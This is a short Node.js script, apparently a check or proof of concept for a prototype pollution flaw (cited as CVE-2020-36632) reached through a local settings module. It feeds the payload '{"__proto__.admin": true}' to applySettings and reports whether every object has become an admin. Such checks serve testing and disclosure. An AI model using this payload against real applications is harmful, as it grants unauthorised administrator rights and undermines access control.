// CVE-2020-36632: keys of posted settings reach Object.prototype through flat.
'use strict';
const { applySettings } = require('../lib/settings');

applySettings(JSON.parse('{"__proto__.admin": true}'));
console.log({}.admin === true ? 'VULNERABLE: every object is an admin now' : 'safe');
